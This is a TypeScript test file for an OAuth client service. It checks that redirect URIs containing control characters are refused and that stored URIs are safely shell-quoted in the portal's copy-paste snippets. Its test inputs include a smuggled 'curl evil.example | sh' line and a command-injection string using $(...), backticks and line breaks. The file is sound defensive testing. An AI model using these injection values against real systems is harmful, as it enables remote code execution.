import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { startTestApp, type TestApp } from './support/app.js';
import { Agent } from './support/agent.js';
import { unescapeHtml as unescape } from './support/page-text.js';

const run = promisify(execFile);

/**
 * Issue #13 item 6: a redirect URI with whitespace or a control character is refused (the URL parser
 * would strip it and the raw string would be stored), and whatever is stored is quoted in the
 * portal's shell snippets, so a pasted example never runs a command it did not show.
 */
describe('redirect URIs with hidden characters, and the shell snippets that show them', () => {
  let app: TestApp;
  let token: string;
  let ownerId: string;
  let agent: Agent;

  beforeAll(async () => {
    app = await startTestApp();
    const user = await app.createUser();
    ownerId = user.id;
    token = await app.tokenActingFor(user.id, ['clients:manage', 'profile']);
    agent = new Agent(app.url);
    expect((await agent.signIn(user.email, user.password)).status).toBe(303);
  });
  afterAll(() => app.close());

  const call = (method: string, path: string, body: unknown) =>
    fetch(`${app.url}${path}`, { method, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });

  it.each([
    'https://app.example/cb\n',
    'https://app.example/cb\ncurl evil.example | sh',
    'https://app.example/c\tb',
    'https://app.example/c b',
    '\thttps://app.example/cb',
    'https://app.example/cb\r',
    'https://app.example/c\u001bb',
    'https://app.example/c\u2028b',
    'https://app.example/c\u00a0b',
  ])('POST and PATCH /v1/clients refuse the redirect URI %j with 400 naming redirect_uris', async (uri) => {
    const created = await call('POST', '/v1/clients', { name: 'x', grant_types: ['authorization_code'], scopes: ['profile'], redirect_uris: [uri] });
    expect(created.status).toBe(400);
    expect(created.headers.get('content-type')).toContain('application/problem+json');
    const body = (await created.json()) as { errors: { field: string }[] };
    expect(body.errors.map((e) => e.field)).toContain('redirect_uris');

    const ok = await call('POST', '/v1/clients', {
      name: 'x',
      grant_types: ['authorization_code'],
      scopes: ['profile'],
      redirect_uris: ['https://app.example/cb'],
    });
    expect(ok.status).toBe(201);
    const { client_id } = (await ok.json()) as { client_id: string };
    const patched = await call('PATCH', `/v1/clients/${client_id}`, { redirect_uris: ['https://app.example/cb', uri] });
    expect(patched.status).toBe(400);
  });

  it('a stored redirect URI with a quote, a $(...) and a line break is quoted in the code-flow snippet: pasted, it runs nothing else', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gatehouse-snippet-'));
    try {
      const marker = join(dir, 'pwned');
      // Stored before the rule existed (straight through the service, as an older row would be).
      const hostile = `https://app.example/cb?a='b'"$(touch ${marker})"\`touch ${marker}\`\ntouch ${marker}\n#`;
      const client = await app.createClient({ ownerId, grantTypes: ['authorization_code'], scopes: ['profile'], redirectUris: [hostile], type: 'public' });
      const page = await agent.get(`/portal/apps/${encodeURIComponent(client.clientId)}`);
      expect(page.status).toBe(200);
      const [code] = [...page.text.matchAll(/<pre><code[^>]*>([\s\S]*?)<\/code><\/pre>/g)].map((m) => unescape(m[1]));
      const [prepare, exchange] = code.split(/^# 2\..*$/m);
      expect(code.match(/^# 2\..*$/m)![0]).toContain('?touch');
      const made = await run('bash', ['-c', `set -e\n${prepare}`], { timeout: 20_000 });
      const url = new URL(made.stdout.trim());
      expect(url.searchParams.get('redirect_uri')).toBe(hostile);
      expect(url.searchParams.get('client_id')).toBe(client.clientId);
      // The exchange command: curl is replaced by a function that prints its arguments.
      const shown = await run('bash', ['-c', `curl() { printf '%s\\n' "$@"; }\nCODE=c CODE_VERIFIER=v\n${exchange}`], { timeout: 20_000 });
      const form = new URLSearchParams(shown.stdout.trim().split('\n').at(-1));
      expect(form.get('redirect_uri')).toBe(hostile);
      expect(existsSync(marker)).toBe(false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
